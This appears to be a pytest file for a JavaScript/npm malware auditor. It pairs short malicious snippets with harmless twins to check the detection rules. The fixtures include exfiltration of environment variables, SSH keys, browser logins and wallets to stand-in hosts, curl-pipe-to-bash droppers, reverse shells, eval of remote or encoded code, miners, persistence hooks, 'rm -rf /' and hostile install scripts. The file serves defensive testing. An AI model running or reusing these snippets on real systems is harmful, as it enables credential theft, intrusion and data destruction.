"""Harmful behaviour of scripts, as reports of incidents describe it, each with a harmless twin."""

import json

import pytest

from heimnetz_audit import Severity, SourceTree, audit

CP = "const cp = require('child_process');\n"
FS = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n"
HTTPS = "const https = require('https');\n"
MANGLED = (
    "var _0x1a2b=['log','\\x48\\x65\\x6c\\x6c\\x6f','push','shift','charCodeAt','length'];"
    "(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){"
    "_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1b3));"
    "var _0x2b1a=function(_0x4d3c,_0x6f5e){_0x4d3c=_0x4d3c-0x0;return _0x1a2b[_0x4d3c];};"
    "console[_0x2b1a('0x0')](_0x2b1a('0x1'));\n"
)
# rule, what is found, what is not
PAIRS = [
    (
        "exfiltration",
        HTTPS + "const body = JSON.stringify(process.env);\n"
        "const r = https.request({ hostname: 'c.example.net', path: '/', method: 'POST' });\nr.write(body);\nr.end();\n",
        HTTPS + "const body = JSON.stringify({ kwh: 3 });\n"
        "const r = https.request({ hostname: 'c.example.net', path: '/', method: 'POST' });\nr.write(body);\nr.end();\n",
    ),
    (
        "exfiltration",
        "const axios = require('axios');\naxios.post('https://c.example.net/x', { env: process.env });\n",
        "const axios = require('axios');\naxios.post('https://c.example.net/x', { lang: process.env.LANG });\n",
    ),
    (
        "exfiltration",
        FS + "const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n"
        "fetch('https://c.example.net', { method: 'POST', body: Buffer.from(key).toString('base64') });\n",
        FS + "const key = fs.readFileSync(path.join(__dirname, 'readings.csv'), 'utf8');\n"
        "fetch('https://c.example.net', { method: 'POST', body: Buffer.from(key).toString('base64') });\n",
    ),
    (
        "exfiltration",
        FS
        + "const dns = require('dns');\nconst who = os.hostname() + '.' + os.userInfo().username;\n"
        "dns.lookup(who + '.c.example.net', () => {});\n",
        FS
        + "const dns = require('dns');\nconst who = os.hostname();\ndns.lookup('c.example.net', () => {});\n",
    ),
    (
        "credential-access",
        FS
        + "const p = path.join(os.homedir(), '.config/google-chrome/Default/Login Data');\nfs.copyFileSync(p, '/tmp/x');\n",
        FS
        + "const p = path.join(os.homedir(), '.config/plugin/settings');\nfs.copyFileSync(p, '/tmp/x');\n",
    ),
    (
        "credential-access",
        FS + "for (const f of ['.electrum/wallets', 'Exodus/exodus.wallet']) {\n"
        "  if (fs.existsSync(path.join(os.homedir(), f))) send(f);\n}\n",
        FS
        + "for (const f of ['cache', 'logs']) {\n  if (fs.existsSync(path.join(os.homedir(), f))) send(f);\n}\n",
    ),
    (
        "hidden-code",
        "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString());\n",
        "show(Buffer.from('YWxlcnQoMSk=', 'base64').toString());\n",
    ),
    (
        "hidden-code",
        "new Function(atob('YWxlcnQoMSk='))();\n",
        "const picture = atob('YWxlcnQoMSk=');\nshow(picture);\n",
    ),
    (
        "hidden-code",
        "const a = [97, 108];\nlet s = '';\nfor (const n of input) s += String.fromCharCode(n ^ 7);\neval(s);\n",
        "let s = '';\nfor (const n of input) s += String.fromCharCode(n ^ 7);\nshow(s);\n",
    ),
    (
        "hidden-code",
        "const zlib = require('zlib');\nmodule._compile(zlib.inflateSync(data).toString(), 'x');\n",
        "const zlib = require('zlib');\nshow(zlib.inflateSync(data).toString());\n",
    ),
    (
        "remote-code",
        "fetch('https://c.example.net/p.js').then((r) => r.text()).then((code) => eval(code));\n",
        "fetch('https://c.example.net/p.json').then((r) => r.text()).then((text) => JSON.parse(text));\n",
    ),
    (
        "remote-code",
        HTTPS + "https.get('https://c.example.net/p', (r) => {\n  let code = '';\n"
        "  r.on('data', (part) => { code += part; });\n  r.on('end', () => { new Function(code)(); });\n});\n",
        HTTPS + "https.get('https://c.example.net/p', (r) => {\n  let text = '';\n"
        "  r.on('data', (part) => { text += part; });\n  r.on('end', () => { show(text); });\n});\n",
    ),
    (
        "remote-code",
        CP
        + "const axios = require('axios');\naxios.get('https://c.example.net/p').then(({ data }) => cp.exec(data));\n",
        CP
        + "const axios = require('axios');\naxios.get('https://c.example.net/p').then(({ data }) => cp.execFile('ls', [data.name]));\n",
    ),
    (
        "dropper",
        CP + "cp.exec('curl -s http://c.example.net/a | bash');\n",
        CP + "cp.exec('curl -s http://c.example.net/a');\n",
    ),
    (
        "dropper",
        FS + HTTPS + CP + "const out = fs.createWriteStream('/tmp/p');\n"
        "https.get('https://c.example.net/p', (r) => r.pipe(out));\ncp.execFile('/tmp/p');\n",
        FS + HTTPS + CP + "const out = fs.createWriteStream('/tmp/p');\n"
        "https.get('https://c.example.net/p', (r) => r.pipe(out));\ncp.execFile('ls');\n",
    ),
    (
        "reverse-shell",
        "const net = require('net');\n"
        + CP
        + "const sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\n"
        "c.connect(4444, '203.0.113.9', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n",
        "const net = require('net');\n"
        + CP
        + "const sh = cp.spawn('ls', []);\nconst c = new net.Socket();\n"
        "c.connect(4444, 'printer.example.org', () => { c.write('x'); });\n",
    ),
    (
        "reverse-shell",
        CP + "cp.exec('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');\n",
        CP + "cp.exec('bash build.sh');\n",
    ),
    ("obfuscated-script", MANGLED, "var words=['log','Hello'];console[words[0]](words[1]);\n"),
    (
        "hidden-names",
        "global['ev' + 'al'](text);\n",
        "global['settings']['ev' + 'ents'](text);\n",
    ),
    (
        "hidden-names",
        "const m = require('child_' + 'process');\nm['ex' + 'ec']('id');\n",
        "const m = require('child_process');\nm.exec('id');\n",
    ),
    (
        "suspicious-address",
        "fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: 'x' });\n",
        "fetch('https://discord.com/developers', { method: 'POST', body: 'x' });\n",
    ),
    (
        "suspicious-address",
        "const net = require('net');\nnet.connect(4444, '203.0.113.9');\n",
        "const net = require('net');\nnet.connect(4444, '192.168.1.9');\n",
    ),
    (
        "crypto-mining",
        CP + "cp.spawn('./m', ['-o', 'stratum+tcp://pool.example:3333']);\n",
        CP + "cp.spawn('./m', ['-o', 'https://example.org']);\n",
    ),
    (
        "persistence",
        FS + "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'node /tmp/x.js');\n",
        FS + "fs.appendFileSync(path.join(os.homedir(), 'notes.txt'), 'node /tmp/x.js');\n",
    ),
    (
        "persistence",
        CP + "cp.exec('crontab -l; echo \"@reboot node x\" | crontab -');\n",
        CP + "cp.exec('crontab -l');\n",
    ),
    (
        "quiet-process",
        CP + "cp.spawn('node', ['x.js'], { detached: true, stdio: 'ignore' }).unref();\n",
        CP + "cp.spawn('node', ['x.js'], { stdio: 'inherit' });\n",
    ),
    (
        "sabotage",
        FS + "fs.rmSync('/', { recursive: true, force: true });\n",
        FS + "fs.rmSync('/tmp/own', { recursive: true, force: true });\n",
    ),
    (
        "surveillance",
        "const c = require('clipboardy');\nshow(c.readSync());\n",
        "const c = require('clipboardy');\nc.writeSync('x');\n",
    ),
    (
        "host-access",
        "require('http').get({ socketPath: '/var/run/docker.sock', path: '/x' }).run();\n",
        "require('http').get({ socketPath: '/run/own.sock', path: '/x' }).run();\n",
    ),
    (
        "hidden-text",
        "const role = 'user\u202e\u2066// admin\u2069\u2066';\n",
        "const role = 'Öl und Gas';\n",
    ),
    (
        "anti-analysis",
        CP
        + "const l = cp.execSync('tasklist').toString();\nif (/x/.test(l) || ['vmware', 'wireshark'].some((w) => l.includes(w))) process.exit();\n",
        CP
        + "const l = cp.execSync('tasklist').toString();\nif (['node', 'npm'].some((w) => l.includes(w))) process.exit();\n",
    ),
]
SCRIPTS = [
    ("preinstall", "curl -s http://c.example.net/a | sh", Severity.HIGH),
    ("postinstall", "node -e \"require('child_process').exec('id')\"", Severity.HIGH),
    ("install", "powershell -enc aQBkAA==", Severity.HIGH),
    ("postinstall", "node setup.js", Severity.LOW),
    ("install", "node-gyp rebuild", Severity.INFO),
]


def found_in(files: dict[str, str]) -> dict[str, Severity]:
    tree = SourceTree.from_files({name: text.encode() for name, text in files.items()})
    report = audit(tree, source_only=True)
    assert not report.unknowns, report.unknowns
    return {finding.rule: finding.severity for finding in report.findings}


@pytest.mark.parametrize(("rule", "bad"), [(rule, bad) for rule, bad, _ in PAIRS])
def test_a_threat_is_found(rule: str, bad: str) -> None:
    assert found_in({"index.js": bad}).get(rule, Severity.INFO) >= Severity.MEDIUM


@pytest.mark.parametrize(("rule", "good"), [(rule, good) for rule, _, good in PAIRS])
def test_a_harmless_twin_is_not_found(rule: str, good: str) -> None:
    assert rule not in found_in({"index.js": good})


@pytest.mark.parametrize(("rule", "bad"), [(rule, bad) for rule, bad, _ in PAIRS])
def test_other_names_and_places_change_nothing(rule: str, bad: str) -> None:
    renamed = bad.replace("cp.", "tools.").replace("const cp ", "const tools ")

    assert rule in found_in({"src/deep/other.cjs": f"// a comment\n'use strict';\n{renamed}"})


@pytest.mark.parametrize(("name", "line", "severity"), SCRIPTS)
def test_what_npm_runs_at_installation_is_weighed(name: str, line: str, severity: Severity) -> None:
    package = {"name": "x", "scripts": {name: line, "test": "curl http://x | sh"}}
    files = {"package.json": json.dumps(package, indent=1), "setup.js": "console.log(1);\n"}

    assert found_in(files).get("install-hook", Severity.INFO) == severity


def test_a_script_that_npm_runs_is_judged_by_what_it_does() -> None:
    package = json.dumps({"name": "x", "scripts": {"postinstall": "node ./lib/setup.js --quiet"}})
    talks = "require('https').get('https://c.example.net/' + require('os').hostname());\n"

    assert (
        found_in({"package.json": package, "lib/setup.js": talks})["install-hook"] == Severity.HIGH
    )


def test_a_file_that_is_required_is_a_script_whatever_its_name() -> None:
    files = {"index.js": "require('./data.txt');\n", "data.txt": "eval(atob('YWxlcnQoMSk='));\n"}

    assert found_in(files)["hidden-code"] == Severity.CRITICAL
